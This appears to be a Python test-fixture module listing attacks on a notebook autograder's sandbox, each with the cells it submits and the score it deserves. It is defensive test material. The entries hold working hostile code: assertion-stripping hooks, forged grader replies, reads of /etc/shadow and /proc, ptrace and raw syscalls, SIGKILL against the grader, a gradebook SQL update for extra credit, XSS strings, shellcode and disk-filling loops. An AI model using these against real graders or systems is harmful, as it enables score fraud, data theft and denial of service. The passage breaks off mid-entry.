"""Attacks on the grader: what each tries, the cells that it hands in, and what it deserves.

Exercise 1 of the class is `square`; an attack wants its two points without the work. Exercises 2 and 3
are answered well, so that each attack also shows that it costs nothing else. ``@NAME@`` in a cell stands
for a place that the attacker may know: the course directory, a home, the port of a listener.

`attempt` in a cell writes GOT when what was tried has worked. That word must not reach an output.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_output

WRONG = "def square(x):\n    return [1.0, 4.0]"  # what the visible check expects, whatever is asked
RIGHT = "def square(x):\n    return np.asarray(x) ** 2"
ENDLESS = "def descend(gradient, x, lr):\n    while True: gradient(np.ones(4_000_000))"

PRELUDE = """
import ctypes, errno, gc, os, sys
gc.unfreeze()
def attempt(what, *arguments):
    try:
        print("GOT", what(*arguments))
    except BaseException as error:
        print("refused:", type(error).__name__, error)
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def mine(kind):
    return [thing for thing in gc.get_objects() if type(thing).__name__ == kind]
"""

CHANNEL = """
import ctypes, gc, json, os, socket, struct, sys
channel = next(t for t in gc.get_objects() if type(t).__name__ == "Channel")
endpoint = next(t for t in gc.get_objects() if type(t).__name__ == "CellEndpoint")
def reply(*frames):
    channel.sock.settimeout(None)
    channel.sock.sendall(struct.pack(f"<I{len(frames)}Q", len(frames), *map(len, frames)) + b"".join(frames))
def say(value):
    return json.dumps(value).encode()
def answer_with(*frames):
    endpoint.answer = lambda asked: list(frames)
def success(value):
    return say({"t": "dict", "v": [["ok", True], ["value", value], ["inputs", {"t": "list", "v": []}]]})
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name : str
    tries : str
        What it wants, in a few words.
    square : str
        The solution cell of exercise 1.
    cells : tuple of str
        The student's own cells, before exercise 1.
    deserves : float
        Points of exercise 1, of 2.
    rest : float
        Points of exercises 2 and 3 together, of 4; less only where the attack spends its own time limits.
    status : str
        "graded", or "" where its forged answers may break a hidden test.
    change : callable
        Makes the bytes of the submission from the notebook with these cells.
    files : dict of str to str
        Further files in the submission's folder.
    refused : bool
        Whether at least one attempt must have been answered with an exception.
    """

    name: str
    tries: str
    square: str = WRONG
    cells: tuple[str, ...] = ()
    deserves: float = 0.0
    rest: float = 4.0
    status: str = "graded"
    change: Callable[[nbformat.NotebookNode], bytes] | None = None
    files: dict[str, str] = field(default_factory=dict)
    refused: bool = False


def _cell(notebook: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _bytes(notebook: nbformat.NotebookNode) -> bytes:
    return json.dumps(notebook).encode()


def _more_points(notebook: nbformat.NotebookNode) -> bytes:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.points = 700
    return _bytes(notebook)


def _own_tests(notebook: nbformat.NotebookNode) -> bytes:
    _cell(notebook, "ex00_1").source = "2.0"
    return _bytes(notebook)


def _test_as_solution(notebook: nbformat.NotebookNode) -> bytes:
    cell = _cell(notebook, "ex00_1")
    cell.source = "2.0"
    cell.metadata.nbgrader.update(solution=True, locked=False, checksum="0" * 32)
    return _bytes(notebook)


def _forged_outputs(notebook: nbformat.NotebookNode) -> bytes:
    cell = _cell(notebook, "ex00_1")
    result = new_output("execute_result", data={"text/plain": "2.0"}, execution_count=1)
    cell.outputs, cell.execution_count = [result], 1
    cell.metadata.nbgrader.score = 2
    return _bytes(notebook)


def _extra_graded_cells(notebook: nbformat.NotebookNode) -> bytes:
    for number in range(5):
        cell = new_code_cell("100.0")
        marks = {"grade": True, "solution": False, "locked": True, "task": False, "points": 100}
        cell.metadata["nbgrader"] = {**marks, "grade_id": f"bonus{number}", "schema_version": 3}
        notebook.cells.append(cell)
    return _bytes(notebook)


def _copies_of_tests(notebook: nbformat.NotebookNode) -> bytes:
    copy = nbformat.from_dict(_cell(notebook, "ex00_1"))
    copy.source = "2.0"
    notebook.cells.insert(0, copy)
    notebook.cells.append(copy)
    return _bytes(notebook)


def _kernel(notebook: nbformat.NotebookNode) -> bytes:
    spec = {"name": "bash", "display_name": "bash", "language": "bash"}
    notebook.metadata["kernelspec"] = spec
    notebook.metadata["coursepkg"] = {"refused": "", "flags": []}
    notebook.metadata["nbgrader"] = {"grade": True}
    return _bytes(notebook)


def _essay(notebook: nbformat.NotebookNode) -> bytes:
    _cell(notebook, "essay").source = (
        "Because <script>document.title='GOT'</script><img src=x onerror=alert('GOT')> "
        "[x](javascript:alert('GOT'))"
    )
    return _bytes(notebook)


def _with(notebook: nbformat.NotebookNode, grade_id: str, source: str) -> bytes:
    _cell(notebook, grade_id).source = source
    return _bytes(notebook)


def _prelude(text: str) -> tuple[str, ...]:
    return (PRELUDE, text)


def _channel(text: str) -> tuple[str, ...]:
    return (CHANNEL, text)


ATTACKS = [
    # --- the checks themselves
    Attack(
        "ast_transformer",
        "remove assertions and comparisons from every later cell",
        cells=(
            "import ast\n"
            "class Strip(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node): return ast.Pass()\n"
            "    def visit_Raise(self, node): return ast.Pass()\n"
            "    def visit_Expr(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Strip())",
        ),
        rest=4.0,
    ),
    Attack(
        "input_transformer",
        "replace the text of every later cell",
        cells=("get_ipython().input_transformers_cleanup.append(lambda lines: ['2.0\\n'])",),
        rest=0.0,  # its own later cells are replaced too
    ),
    Attack(
        "run_cell_hook",
        "replace IPython's run_cell and result",
        cells=(
            "shell = get_ipython()\nold = type(shell).run_cell\n"
            "def run_cell(self, source, *a, **k):\n    print(2.0)\n    return old(self, source, *a, **k)\n"
            "type(shell).run_cell = run_cell",
        ),
    ),
    Attack(
        "patched_numpy",
        "make every comparison of NumPy true",
        cells=(
            "for name in ('allclose', 'isclose', 'array_equal'):\n"
            "    setattr(np, name, lambda *a, **k: True)\n"
            "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None",
        ),
    ),
    Attack(
        "patched_builtins",
        "make isinstance, abs, all and len lie",
        cells=("import builtins\nbuiltins.all = lambda things: True\nbuiltins.abs = lambda x: 0.0\n",),
    ),
    Attack(
        "shadow_numpy_in_submission",
        "bring a numpy package along",
        files={"numpy/__init__.py": "print('GOT')\ndef allclose(*a, **k): return True\n", "hidden.py": "GOT"},
    ),
    Attack(
        "shadow_numpy_written",
        "write numpy.py, json.py and hidden.py beside the notebook",
        cells=(
            "for name in ('numpy', 'json', 'struct', 'hidden', 'coursepkg', 'sitecustomize'):\n"
            "    with open(name + '.py', 'w') as file: file.write('print(\"GOT\")')",
            "import sys\nfor name in ('json', 'struct'): sys.modules.pop(name, None)\nimport json, struct",
        ),
    ),
    Attack(
        "hard_coded_visible",
        "answer the visible check's input alone",
        "def square(x):\n    return [1.0, 4.0] if list(x) == [1.0, 2.0] else [0.0] * len(x)",
    ),
    Attack(
        "acts_when_graded",
        "look for a sign of grading and print full points",
        "def square(x):\n    import os, sys\n"
        "    if 'NBGRADER_EXECUTION' in os.environ or 'ipykernel' not in sys.modules:\n"
        "        print(2.0)\n        return 2.0\n    return 2.0",
        cells=(
            "import os\nprint(os.environ.get('NBGRADER_EXECUTION', ''))\n"
            "os.environ['NBGRADER_VALIDATING'] = '1'",
        ),
    ),
    Attack(
        "steals_the_check",
        "read the check's text and inputs from the calling frames",
        "def square(x):\n    import sys\n    frame, said = sys._getframe(), []\n"
        "    while frame:\n        said.append(repr(frame.f_locals)[:2000])\n        frame = frame.f_back\n"
        "    text = ' '.join(said)\n    print(text)\n"
        "    raise ValueError('CAN' + 'ARY' + (text.split('CAN' + 'ARY')[1][:40] if 'CAN' + 'ARY' "
        "in text else ''))",
    ),
    Attack(
        "history",
        "read the hidden tests from In, _ih, the history and linecache",
        cells=(
            "import linecache\nprint(In[-3:], _ih[-3:], Out)\n"
            "print([lines[2][:5] for lines in linecache.cache.values() if lines[2] and 'hidden' in "
            "str(lines[2])][:3])\n"
            "print(list(get_ipython().history_manager.get_range(0)))",
        ),
    ),
    # --- results that lie
    Attack(
        "array_function",
        "return an object with __array_function__ and __array_ufunc__",
        "class Right:\n    shape, dtype, size, ndim = (5,), float, 5, 1\n"
        "    def __array_function__(self, *a): return True\n"
        "    def __array_ufunc__(self, *a, **k): return True\n"
        "    def __array__(self, *a, **k): return np.zeros(5)\n"
        "def square(x):\n    return Right()",
    ),
    Attack(
        "equals_everything",
        "return an object that is equal to everything",
        "class Right:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
        "    __hash__ = None\n    def __sub__(self, other): return 0\n    __rsub__ = __sub__\n"
        "def square(x):\n    return Right()",
    ),
    Attack(
        "array_subclass",
        "return an ndarray whose comparisons are true",
        "class Right(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
        "    def __array_finalize__(self, other): pass\n"
        "    def __le__(self, other): return np.ones(self.shape, bool)\n"
        "def square(x):\n    return np.zeros(len(x)).view(Right)",
    ),
    Attack(
        "lies_about_class",
        "return an object whose __class__ is ndarray, and one whose __float__ changes",
        "class Right:\n    __class__ = property(lambda self: np.ndarray)\n"
        "    dtype = np.dtype(float)\n    shape = (5,)\n"
        "    def reshape(self, *a): return self\n    def astype(self, *a, **k): return self\n"
        "    def tobytes(self): return bytes(40)\n    def __float__(self): return 1.0\n"
        "def square(x):\n    return Right()",
    ),
    Attack(
        "float_subclass",
        "return floats whose hex() and == lie",
        "class Right(float):\n    def __eq__(self, other): return True\n    def hex(self): return 'GOT'\n"
        "    def __float__(self): return self\n"
        "def square(x):\n    return [Right(0.0) for _ in x]",
    ),
    Attack(
        "endless_results",
        "return containers that never end",
        "class Endless(list):\n    def __iter__(self):\n        while True: yield 0.0\n"
        "def square(x):\n    return Endless()",
    ),
    Attack(
        "deep_results",
        "return a list that holds itself, and one nested deeply",
        "def square(x):\n    deep = []\n    for _ in range(100_000): deep = [deep]\n"
        "    deep.append(deep)\n    return deep",
    ),
    Attack(
        "giant_integer", "return an integer of a million digits", "def square(x):\n    return 10 ** 1_000_000"
    ),
    Attack(
        "giant_array",
        "return 800 MB",
        "def square(x):\n    return np.zeros(100_000_000)",
    ),
    Attack(
        "empty_giant_shape",
        "return an array of no entries whose shape is giant",
        "def square(x):\n    return np.zeros((0, 2 ** 40))",
    ),
    Attack(
        "nan_and_none",
        "return NaN, which a comparison with > lets pass",
        "def square(x):\n    return np.full(len(x), np.nan)",
    ),
    Attack(
        "evil_exception",
        "raise exceptions whose text raises, never ends or is code",
        "class Evil(BaseException):\n    def __str__(self): raise KeyboardInterrupt\n    __repr__ = __str__\n"
        "def square(x):\n    raise Evil",
    ),
    Attack(
        "pretends_to_be_the_checker",
        "raise exceptions with the checker's names",
        "class CheckFailed(AssertionError): pass\nclass NotBegun(CheckFailed): pass\n"
        "def square(x):\n    raise NotBegun('2 of 2 points. Everything is right. <script>alert(1)</script>')",
    ),
    # --- verdicts
    Attack(
        "displayhook",
        "publish full points before the check does",
        "import sys\ndef square(x):\n    sys.displayhook(2.0)\n    display(2.0)\n    print(2.0)\n"
        "    return x",
    ),
    Attack(
        "finds_its_socket",
        "send forged replies for the questions to come",
        cells=_channel(
            "frames = success({'t': 'array', 'a': {'d': '<f8', 's': [2], 'b': 0}}), "
            "struct.pack('<2d', 1.0, 4.0)\n"
            "for _ in range(20): reply(*frames)"
        ),
        rest=-1.0,  # shifts the answers of its own later questions
    ),
    Attack(
        "forged_score",
        "answer with a score instead of a value",
        cells=_channel(
            "answer_with(say({'t': 'dict', 'v': [['ok', True], ['value', {'t': 'float', 'v': '0x1p+1'}],"
            " ['score', {'t': 'float', 'v': '0x1p+1'}], ['passed', True]]}))"
        ),
        rest=0.0,
        status="",  # a number where a dictionary was asked for breaks the hidden test of exercise 3
    ),
    Attack(
        "forged_types",
        "answer with types that the form does not have",
        cells=_channel(
            "junk = [None, True, 'x', [], {}, [[]], {'t': []}, {'t': {}}, {'t': 'array'}, {'t': "
            "'int', 'v': 5},\n"
            "        {'t': 'dict', 'v': 3}, {'t': 'dict', 'v': [[{'t': 'list', 'v': []}, 1]]}, "
            "{'t': 'float', 'v': []},\n"
            "        {'t': 'array', 'a': {'d': '|O8', 's': [1], 'b': 0}}, {'t': 'pickle', 'v': 0}, "
            "1e999, -1]\n"
            "count = iter(range(10 ** 9))\n"
            "endpoint.answer = lambda asked: [say(junk[next(count) % len(junk)]), b'12345678']"
        ),
        rest=0.0,
    ),
    Attack(
        "forged_outputs_of_a_cell",
        "answer a cell with outputs of other types: arrays, numbers, nested lists",
        cells=_channel(
            "array = {'t': 'array', 'a': {'d': '<f8', 's': [2], 'b': 0}}\n"
            "output = {'t': 'dict', 'v': [['output_type', array], ['name', {'t': 'list', 'v': []}]]}\n"
            "old = endpoint.answer\ndef answer(asked):\n    old(asked)\n"
            "    endpoint.answer = old\n"
            "    return [say({'t': 'dict', 'v': [['ok', True], ['value', {'t': 'list', 'v': "
            "[output]}]]}), bytes(16)]\n"
            "endpoint.answer = answer"
        ),
    ),
    Attack(
        "forged_shape",
        "answer with arrays whose shape asks for 2**60 entries",
        cells=_channel(
            "answer_with(success({'t': 'array', 'a': {'d': '<f8', 's': [2 ** 30, 2 ** 30], 'b': 0}}), b'')"
        ),
        rest=0.0,
    ),
    Attack(
        "forged_depth",
        "answer with a text nested a million deep",
        cells=_channel("answer_with(b'[' * 1_000_000)"),
        rest=0.0,
    ),
    Attack(
        "forged_head",
        "answer with 60 MiB of empty lists, which take 1 GiB once read",
        cells=_channel("answer_with(b'[' + b'[],' * (20 << 20) + b'[]]')"),
        rest=0.0,
    ),
    Attack(
        "forged_lengths",
        "announce more bytes than there are",
        "def square(x):\n    channel.sock.sendall(struct.pack('<IQ', 1, 1 << 62))\n    return x",
        cells=(CHANNEL,),
    ),
    Attack(
        "forged_count",
        "announce four billion frames",
        "def square(x):\n    channel.sock.sendall(struct.pack('<I', 0xFFFFFFFF))\n    return x",
        cells=(CHANNEL,),
    ),
    Attack(
        "half_a_message",
        "send half a message and wait",
        "def square(x):\n    channel.sock.sendall(struct.pack('<IQ', 1, 100) + b'[')\n"
        "    import time\n    time.sleep(60)",
        cells=(CHANNEL,),
    ),
    Attack(
        "drips",
        "send a byte now and then, for ever",
        "def square(x):\n    import time\n    channel.sock.sendall(struct.pack('<IQ', 1, 1 << 20))\n"
        "    while True:\n        channel.sock.sendall(b' ')\n        time.sleep(0.01)",
        cells=(CHANNEL,),
    ),
    Attack(
        "flood",
        "fill the channel for ever",
        "def square(x):\n    channel.sock.settimeout(None)\n"
        "    while True: channel.sock.sendall(bytes(1 << 20))",
        cells=(CHANNEL,),
    ),
    Attack(
        "sends_descriptors",
        "pass descriptors to the grader",
        cells=_channel(
            "for _ in range(50):\n"
            "    try: socket.send_fds(channel.sock, [b''], [0, 1])\n    except OSError as error: print(error)"
        ),
    ),
    Attack(
        "endless_callbacks",
        "ask the lent function for ever, with large arguments",
        rest=2.0,
        change=lambda notebook: _with(notebook, "function_argument", ENDLESS),
    ),
    Attack(
        "callbacks_out_of_turn",
        "ask for functions that were lent in another exercise, or never",
        cells=_channel(
            "from types import SimpleNamespace\n"
            "def ask(key):\n"
            "    head = {'t': 'dict', 'v': [['op', 'callback'], ['key', key], ['args', {'t': "
            "'list', 'v': []}],"
            " ['kwargs', {'t': 'dict', 'v': []}]]}\n"
            "    reply(say(head))\n    return channel.receive(1.0)[0]\n"
        ),
        square="def square(x):\n"
        "    said = [ask(key) for key in ('lent:0', 'lent:1', 'name:square', '__class__')]\n"
        "    raise ValueError(said)",
    ),
    Attack(
        "patched_wire",
        "replace json.dumps in the packing of results",
        cells=_channel(
            "old = json.dumps\n"
            "class Lies:\n"
            "    def __getattr__(self, name): return getattr(json, name)\n"
            "    def dumps(self, value, **k): return old({'t': 'dict', 'v': [['ok', True], "
            "['value', True]]})\n"
            "pack = type(endpoint).__mro__[1].answer.__globals__['pack']\n"
            "pack.__globals__['json'] = Lies()"
        ),
    ),
    Attack(
        "closes_its_channel",
        "close every descriptor",
        "def square(x):\n    import os\n    os.closerange(0, 64)\n    return np.asarray(x) ** 2",
    ),
    Attack(
        "covers_its_channel",
        "put a pipe over every descriptor",
        "def square(x):\n    import os\n    a, b = os.pipe()\n"
        "    for number in range(3, 30):\n        if number not in (a, b): os.dup2(a, number)\n"
        "    return np.asarray(x) ** 2",
    ),
    # --- reading
    Attack(
        "reads_files",
        "read the solution, the hidden tests, the secret, the gradebook, other students' work, a home",
        cells=_prelude(
            "for path in ('@COURSE@/source/00_toy/00_toy.ipynb', '@COURSE@/hidden/toy.py', "
            "'@COURSE@/.secret',\n"
            "             '@OUT@/gradebook.db', '@SUBMITTED@/aa_honest/00_toy/00_toy.ipynb', "
            "'@HOME@/diary.txt',\n"
            "             '/etc/passwd', '/etc/hostname', '/etc/shadow', '@SUBMITTED@', "
            "'@COURSE@/limits.toml'):\n"
            "    attempt(lambda: open(path).read()[:200])\n"
            "    attempt(lambda: os.listdir(os.path.dirname(path)))\n"
            "    attempt(lambda: os.open(path, os.O_RDWR))"
        ),
        refused=True,
    ),
    Attack(
        "reads_proc",
        "read what the kernel tells of processes",
        cells=_prelude(
            "for pid in ('self', 1, os.getppid(), @VICTIM@):\n"
            "    for name in ('environ', 'maps', 'mem', 'cmdline', 'cwd/x', 'root/etc/passwd', "
            "'fd', 'task'):\n"
            "        path = f'/proc/{pid}/{name}'\n"
            "        attempt(lambda: os.listdir(path) if name in ('fd', 'task') else open(path, "
            "'rb').read(100))\n"
            "attempt(lambda: os.listdir('/proc'))"
        ),
        refused=True,
    ),
    Attack(
        "imports_hidden",
        "import the hidden tests, the course and what is not listed",
        cells=_prelude(
            "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_NotHere']\n"
            "sys.path[:0] = ['@COURSE@', '@ROOT@', '@SITE@']\n"
            "import importlib\n"
            "for name in ('hidden', 'hidden.toy', 'coursepkg', 'coursepkg.threshold', "
            "'coursepkg.grading.student', 'sklearn',\n"
            "             'nbgrader', 'torch', 'sqlalchemy'):\n"
            "    attempt(importlib.import_module, name)\n"
            "import runpy\nattempt(runpy.run_path, '@COURSE@/hidden/toy.py')\n"
            "from importlib.machinery import SourceFileLoader\n"
            "attempt(SourceFileLoader('h', '@COURSE@/hidden/toy.py').load_module)"
        ),
        refused=True,
    ),
    Attack(
        "environment",
        "print the environment and the arguments",
        cells=("import os, sys\nprint(dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getcwd())",),
    ),
    Attack(
        "objects",
        "print every text that Python knows of",
        cells=(
            "import gc, sys\ngc.unfreeze()\nword = 'CAN' + 'ARY-'\n"
            "def texts():\n"
            "    for thing in gc.get_objects():\n"
            "        for part in gc.get_referents(thing):\n"
            "            if type(part) is str: yield part\n"
            "            elif type(part) is bytes: yield part.decode('latin-1')\n"
            "            elif type(part) is dict: yield from (v for v in list(part.values()) if "
            "type(v) is str)\n"
            "print({t[max(t.index(word) - 20, 0):][:80] for t in texts() if word in t and len(t) > 8})",
            "import sys\nfor thread, frame in sys._current_frames().items():\n"
            "    while frame:\n        print(repr(frame.f_locals)[:3000])\n        frame = frame.f_back",
        ),
    ),
    Attack(
        "memory",
        "search its own memory for texts that were there before it",
        cells=_prelude(
            "inlet, outlet = os.pipe()\nos.set_blocking(outlet, False)\nos.set_blocking(inlet, False)\n"
            "libc.sbrk.restype = ctypes.c_void_p\n"
            "word, found, size = b'CAN' + b'ARY-', set(), 1 << 15\n"
            "def look(start, stop):\n"
            "    for at in range(start & -4096, stop, size):\n"
            "        if libc.write(outlet, ctypes.c_void_p(at), size) > 0:\n"
            "            page = os.read(inlet, size)\n"
            "            i = page.find(word)\n"
            "            while i >= 0:\n"
            "                found.add(page[i:i + 40]); i = page.find(word, i + 1)\n"
            "top = libc.sbrk(0)\nlook(top - (64 << 20), top)\n"
            "for near in {id(thing) >> 24 for thing in gc.get_objects()}: look(near << 24, (near + "
            "1) << 24)\n"
            "print(found)"
        ),
    ),
    Attack(
        "other_processes",
        "look into other processes by ptrace and process_vm_readv",
        cells=_prelude(
            "for pid in (os.getppid(), @VICTIM@, 1):\n"
            "    attempt(syscall, 101, 16, pid, 0, 0)\n"
            "    attempt(syscall, 310, pid, ctypes.create_string_buffer(64), 1, "
            "ctypes.create_string_buffer(64), 1, 0)\n"
            "    attempt(syscall, 434, pid, 0)\n    attempt(syscall, 312, os.getpid(), pid, 0, 0, 0)"
        ),
        refused=True,
    ),
    # --- system calls
    Attack(
        "new_processes",
        "start processes in every way there is",
        cells=_prelude(
            "import multiprocessing, subprocess\n"
            "attempt(os.fork)\n"
            "attempt(os.system, 'id') if os.system('id') == 0 else print('refused: OSError')\n"
            "attempt(subprocess.run, ['id'])\nattempt(os.posix_spawn, '/bin/sh', ['sh'], {})\n"
            "attempt(os.execv, '/bin/sh', ['sh'])\n"
            "attempt(os.popen, 'id')\nattempt(multiprocessing.Process(target=print).start)\n"
            "attempt(syscall, 56, 17, 0, 0, 0, 0)\nattempt(syscall, 56, 0x4000 | 17, 0, 0, 0, 0)\n"
            "attempt(syscall, 58)\n"
            "attempt(syscall, 435, ctypes.create_string_buffer(88), 88)\nattempt(os.forkpty)\n"
            "get_ipython().system('id')"
        ),
        refused=True,
    ),
    Attack(
        "magics",
        "start a shell by IPython's magics",
        cells=(
            "!id > stolen",
            "%%bash\nid",
            "%sx id",
            "%%script sh\nid",
            "%%writefile ../x\nGOT",
            "%run @COURSE@/hidden/toy.py",
            "%load @COURSE@/hidden/toy.py",
            "%pycat @COURSE@/hidden/toy.py",
        ),
    ),
    Attack(
        "raw_calls",
        "system calls that no lesson needs",
        cells=_prelude(
            "buffer = ctypes.create_string_buffer(256)\n"
            "for number, *arguments in ((272, 0x10000000), (272, 0x40000000), (425, 8, buffer), "
            "(319, b'x', 0), (447, 0), (321, 0, buffer, 64),\n"
            "        (298, buffer, 0, -1, -1, 0), (323, 0), (165, b'a', b'/tmp', b't', 0, 0), "
            "(161, b'/'), (155, b'/', b'/'),\n"
            "        (250, 0, 0, 0), (248, b'user', b'a', b'b', 1, 0), (29, 0, 4096, 0o1600), (30, "
            "0, 0, 0), (71, 0, 0, 0),\n"
            "        (240, b'/q', 0o102, 0o600, 0), (170, b'x', 1), (227, 0, buffer), (300, 0, 0), "
            "(103, 3, buffer, 200), (304, -1, buffer, 0),\n"
            "        (428, -100, b'/', 0), (112,), (109, 0, 0), (500,), (463, -100, b'/', 0, "
            "b'user.x', buffer, 16)):\n"
            "    attempt(syscall, number, *arguments)"
        ),
        refused=True,
    ),
    Attack(
        "execveat_of_a_memory_file",
        "run a program from memory",
        cells=_prelude(
            "attempt(os.memfd_create, 'x')\n"
            "with open('program', 'wb') as file: file.write(b'#!/bin/sh\\nid')\n"
            "fd = os.open('program', os.O_RDONLY)\nattempt(syscall, 322, fd, b'', 0, 0, 0x1000)\n"
            "attempt(syscall, 59, b'program', 0, 0)"
        ),
        refused=True,
    ),
    Attack(
        "calls_of_32_bits",
        "use the system calls of another architecture, which have other numbers",
        "def square(x):\n    import ctypes, mmap\n"
        "    code = bytes.fromhex('b802000000cd80c3')  # mov eax, 2 (fork); int 0x80; ret\n"
        "    page = mmap.mmap(-1, 4096, prot=7)\n    page.write(code)\n"
        "    at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
        "    ctypes.CFUNCTYPE(ctypes.c_int)(at)()\n    return np.asarray(x) ** 2",
    ),
    Attack(
        "network",
        "reach a listener: TCP, UDP, a socket in the file system, an abstract one",
        cells=_prelude(
            "import socket, urllib.request\n"
            "attempt(socket.create_connection, ('127.0.0.1', @PORT@), 1)\n"
            "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'GOT', "
            "('127.0.0.1', @PORT@)))\n"
            "attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'GOT', '@UNIX@'))\n"
            "attempt(urllib.request.urlopen, 'http://127.0.0.1:@PORT@/', None, 1)\n"
            "attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "attempt(lambda: socket.socketpair(socket.AF_UNIX, "
            "socket.SOCK_DGRAM)[0].sendto(b'GOT', '@UNIX@'))\n"
            "attempt(lambda: socket.socketpair(socket.AF_UNIX, "
            "socket.SOCK_STREAM)[0].sendto(b'GOT', '@UNIX@'))"
        ),
        refused=True,
    ),
    Attack(
        "signals",
        "signal the grader, its group and everybody",
        cells=_prelude(
            "import signal\n"
            "for pid in (os.getppid(), @VICTIM@, 1, 0, -1, -os.getppid()):\n"
            "    attempt(os.kill, pid, signal.SIGKILL)\n"
            "attempt(os.killpg, os.getpgid(os.getppid()), 9)\n"
            "attempt(syscall, 234, @VICTIM@, @VICTIM@, 9)\nattempt(syscall, 200, @VICTIM@, 9)\n"
            "attempt(syscall, 129, @VICTIM@, 9, ctypes.create_string_buffer(128))\n"
            "attempt(syscall, 424, 0, 9, 0, 0)"
        ),
        refused=True,
    ),
    Attack(
        "signals_by_descriptors",
        "let the kernel send SIGKILL when a pipe becomes readable",
        cells=_prelude(
            "import fcntl, termios\ninlet, outlet = os.pipe()\n"
            "attempt(fcntl.fcntl, inlet, fcntl.F_SETOWN, @VICTIM@)\nattempt(fcntl.fcntl, inlet, 10, 9)\n"
            "attempt(fcntl.fcntl, inlet, 15, bytes(8))\n"
            "import struct\nattempt(fcntl.ioctl, inlet, 0x8901, struct.pack('i', @VICTIM@))\n"
            "attempt(fcntl.ioctl, 0, termios.TIOCSTI, b'x')\n"
            "try: fcntl.fcntl(inlet, fcntl.F_SETFL, os.O_ASYNC)\nexcept OSError: pass\nos.write(outlet, b'x')"
        ),
        refused=True,
    ),
    Attack(
        "limits",
        "raise its own limits, lower others'",
        cells=_prelude(
            "import resource\n"
            "for what in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, "
            "resource.RLIMIT_NOFILE):\n"
            "    attempt(resource.setrlimit, what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
            "attempt(resource.prlimit, @VICTIM@, resource.RLIMIT_CPU, (0, 0))\n"
            "attempt(os.setpriority, os.PRIO_PROCESS, @VICTIM@, 19)\n"
            "attempt(os.sched_setaffinity, @VICTIM@, {0})\n"
            "attempt(os.sched_setscheduler, @VICTIM@, os.SCHED_IDLE, os.sched_param(0))\n"
            "attempt(syscall, 157, 1, 0, 0, 0, 0)\nattempt(syscall, 251, 1, @VICTIM@, 3 << 13)"
        ),
        refused=True,
    ),
    # --- writing
    Attack(
        "writes_outside",
        "change, move, link, truncate or remove files of others",
        cells=_prelude(
            "targets = ('@HOME@/diary.txt', '@COURSE@/.secret', '@OUT@/gradebook.db', "
            "'@COURSE@/hidden/toy.py')\n"
            "for path in targets:\n"
            "    attempt(open, path, 'a')\n    attempt(os.truncate, path, 0)\n    attempt(os.remove, path)\n"
            "    attempt(os.rename, path, 'here')\n    attempt(os.link, path, 'linked')\n"
            "    attempt(os.chmod, path, 0o777)\n"
            "    attempt(os.chown, path, 0, 0)\n    attempt(os.utime, path, (0, 0))\n"
            "    attempt(os.setxattr, path, 'user.x', b'1')\n"
            "    attempt(os.symlink, path, 'pointer')\n"
            "for folder in ('@HOME@', '@OUT@', '@COURSE@', '@SUBMITTED@/aa_honest', '/tmp', "
            "'/dev/shm', '/var/tmp', '..', '../..'):\n"
            "    attempt(open, folder + '/GOT', 'w')\n    attempt(os.mkdir, folder + '/GOT.d')\n"
            "    with open('own', 'w') as file: file.write('x')\n"
            "    attempt(os.rename, 'own', folder + '/GOT.moved')"
        ),
        refused=True,
    ),
    Attack(
        "gradebook",
        "write extra credit into the gradebook",
        cells=_prelude(
            "import sqlite3\n"
            "attempt(lambda: sqlite3.connect('@OUT@/gradebook.db').execute('update grade set "
            "extra_credit = 200'))\n"
            "attempt(lambda: sqlite3.connect('file:@OUT@/gradebook.db?mode=ro', "
            "uri=True).execute('select * from grade'))"
        ),
        refused=True,
    ),
    Attack(
        "special_files",
        "make FIFOs, sockets, devices, links",
        cells=_prelude(
            "import stat\nattempt(os.mkfifo, 'fifo')\n"
            "attempt(os.mknod, 'device', 0o600 | stat.S_IFCHR, os.makedev(1, 1))\n"
            "attempt(os.symlink, '@COURSE@', 'course')\n"
            "attempt(os.link, '@HOME@/diary.txt', 'diary')\nattempt(os.chroot, '.')\n"
            "attempt(os.chmod, '.', 0o777)"
        ),
        refused=True,
    ),
    Attack(
        "fills_the_disk",
        "write files of 32 MiB for ever",
        cells=(
            "i = 0\nwhile True:\n    with open(f'f{i}', 'wb') as file: file.write(bytes(32 << 20))\n"
            "    i += 1",
        ),
    ),
    Attack(
        "many_files",
        "write small files for ever",
        cells=("i = 0\nwhile True:\n    open(f'f{i}', 'w').close()\n    i += 1",),
    ),
    Attack(
        "big_file",
        "write one file of 10 GB, and a sparse one",
        cells=_prelude(
            "attempt(lambda: os.truncate('sparse', 1 << 40))\n"
            "file = open('sparse', 'wb')\nattempt(file.truncate, 1 << 40)\n"
            "attempt(lambda: [file.write(bytes(1 << 20)) for _ in range(10_000)] and 1)"
        ),
        refused=True,
    ),
    Attack(
        "deep_folders",
        "make folders deeper than any path, and some without permissions",
        cells=(
            "import os\nfor i in range(3000):\n    os.mkdir('d' * 20)\n    os.chdir('d' * 20)\n"
            "    os.mkdir('shut', 0)\n",
        ),
    ),
    Attack(
        "writes_in_a_call",
        "write files while a question is answered, in a thread that stays",
        "def square(x):\n    import threading\n    def fill():\n        i = 0\n"
        "        while True:\n            i += 1\n"
